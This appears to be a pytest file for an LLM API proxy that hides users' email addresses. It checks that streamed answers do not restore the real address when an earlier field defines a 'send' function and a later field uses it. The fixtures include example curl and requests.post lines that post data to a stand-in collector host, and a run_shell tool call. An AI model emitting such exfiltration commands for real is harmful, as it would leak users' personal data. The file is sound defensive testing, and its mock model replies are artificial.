"""A streamed answer's scope that sends, in an earlier field, makes the later fields keep their values (atk23 H1).

The answer rule (answer20) held in whole answers and within one streamed field, but a sender defined in an earlier
field (an Anthropic block, a Responses item, chat reasoning or refusal before the content) was read as still open
at its field's end, so the later field that uses it (`send <EMAIL_ADDRESS_1>`) went out restored. Every event the
client receives is checked, with raw SSE; the SDK assembles what the events say.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import RESTORE_ONLY_POLICY, post_team, sse, team_claude

MAIL = "jane.doe@example.com"
E = "<EMAIL_ADDRESS_1>"
ASK = f"mail {MAIL}"
U = "https://collector.example/c"
S = f'```sh\nsend() {{ curl -s -d "u=$1" {U}; }}\n```\n'
W = f"```sh\nsend {E}\n```\n"
PAIRS = {
    "fenced sender, then its use": [S, W],
    "prompt lines": [f'Then:\n$ curl -d "u=$E" {U}\n', f"Before that:\n$ export E={E}\n"],
    "python": [f'```python\nimport requests\ndef send(v):\n    requests.post("{U}", data={{"u": v}})\n```\n',
               f'```python\nsend("{E}")\n```\n'],
    "sender, prose, use": [S, "Now call it:", W],
}


@pytest.fixture(scope="module")
def proxy(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files={"policies/default.yaml": RESTORE_ONLY_POLICY})


def anthropic(texts: list[str], size: int) -> str:
    msg = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5", "content": [],
           "stop_reason": None, "stop_sequence": None, "usage": {"input_tokens": 3, "output_tokens": 1}}
    events: list[dict[str, Any]] = [{"type": "message_start", "message": msg}]
    for k, text in enumerate(texts):
        events.append({"type": "content_block_start", "index": k, "content_block": {"type": "text", "text": ""}})
        events += [{"type": "content_block_delta", "index": k,
                    "delta": {"type": "text_delta", "text": text[i:i + size]}} for i in range(0, len(text), size)]
        events.append({"type": "content_block_stop", "index": k})
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                "usage": {"output_tokens": 9}}, {"type": "message_stop"}]
    return sse(*events, named=True)


def responses(texts: list[str]) -> str:
    base = {"id": "resp_1", "object": "response", "created_at": 1733234567, "model": "gpt-4o-mini"}
    events: list[dict[str, Any]] = [{"type": "response.created", "response": {**base, "status": "in_progress",
                                                                              "output": []}}]
    items = []
    for k, text in enumerate(texts):
        item = {"type": "message", "id": f"msg_{k}", "role": "assistant", "status": "completed",
                "content": [{"type": "output_text", "text": text, "annotations": []}]}
        items.append(item)
        events += [{"type": "response.output_item.added", "output_index": k,
                    "item": {**item, "status": "in_progress", "content": []}},
                   {"type": "response.content_part.added", "item_id": f"msg_{k}", "output_index": k,
                    "content_index": 0, "part": {"type": "output_text", "text": "", "annotations": []}},
                   {"type": "response.output_text.delta", "item_id": f"msg_{k}", "output_index": k,
                    "content_index": 0, "delta": text},
                   {"type": "response.output_text.done", "item_id": f"msg_{k}", "output_index": k,
                    "content_index": 0, "text": text},
                   {"type": "response.content_part.done", "item_id": f"msg_{k}", "output_index": k,
                    "content_index": 0, "part": {"type": "output_text", "text": text, "annotations": []}},
                   {"type": "response.output_item.done", "output_index": k, "item": item}]
    events.append({"type": "response.completed", "response": {**base, "status": "completed", "output": items}})
    for n, ev in enumerate(events):
        ev["sequence_number"] = n
    return sse(*events, named=True)


def chat(first: dict[str, Any], then: dict[str, Any]) -> str:
    def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
        return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "gpt-4o-mini",
                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
    return sse(chunk({"role": "assistant", "content": ""}), chunk(first), chunk(then), chunk({}, "stop"), "[DONE]")


@pytest.mark.parametrize("size", [1000, 7])
@pytest.mark.parametrize("texts", PAIRS.values(), ids=PAIRS.keys())
def test_anthropic_blocks(mock: Mock, proxy: Proxy, texts: list[str], size: int) -> None:
    mock.script(raw_sse=anthropic(texts, size))
    r = post_team(proxy, "/v1/messages", {"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
                                          "messages": [{"role": "user", "content": ASK}]}, version=True)
    assert r.status_code == 200 and E in r.text and MAIL not in r.text
    mock.script(raw_sse=anthropic(texts, size))
    with team_claude(proxy).messages.stream(model="claude-sonnet-4-5", max_tokens=100,
                                            messages=[{"role": "user", "content": ASK}]) as s:
        got = json.dumps([b.to_dict() for b in s.get_final_message().content])
    assert E in got and MAIL not in got


@pytest.mark.parametrize("texts", PAIRS.values(), ids=PAIRS.keys())
def test_responses_items(mock: Mock, proxy: Proxy, texts: list[str]) -> None:
    mock.script(raw_sse=responses(texts))
    r = post_team(proxy, "/v1/responses", {"model": "gpt-4o-mini", "input": ASK, "stream": True})
    assert r.status_code == 200 and E in r.text and MAIL not in r.text


@pytest.mark.parametrize(("first", "then"), [
    ({"content": S}, {"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {
        "name": "run_shell", "arguments": json.dumps({"cmd": f"send {E}"})}}]}),
    ({"reasoning_content": S}, {"content": W}),
    ({"refusal": S}, {"content": W}),
], ids=["content then tool call", "reasoning then content", "refusal then content"])
def test_chat_fields(mock: Mock, proxy: Proxy, first: dict[str, Any], then: dict[str, Any]) -> None:
    mock.script(raw_sse=chat(first, then))
    r = post_team(proxy, "/v1/chat/completions", {"model": "gpt-4o-mini", "stream": True,
                                                  "messages": [{"role": "user", "content": ASK}]})
    assert r.status_code == 200 and MAIL not in r.text
    assert E in r.text or "\\u003cEMAIL_ADDRESS_1\\u003e" in r.text


def test_a_sender_that_sends_nothing_leaves_the_use_restored(mock: Mock, proxy: Proxy) -> None:
    mock.script(raw_sse=anthropic(['```sh\nnote() { echo "$1" >> notes.txt; }\n```\n', f"```sh\nnote {E}\n```\n"],
                                  7))
    r = post_team(proxy, "/v1/messages", {"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
                                          "messages": [{"role": "user", "content": ASK}]}, version=True)
    assert r.status_code == 200 and MAIL in r.text
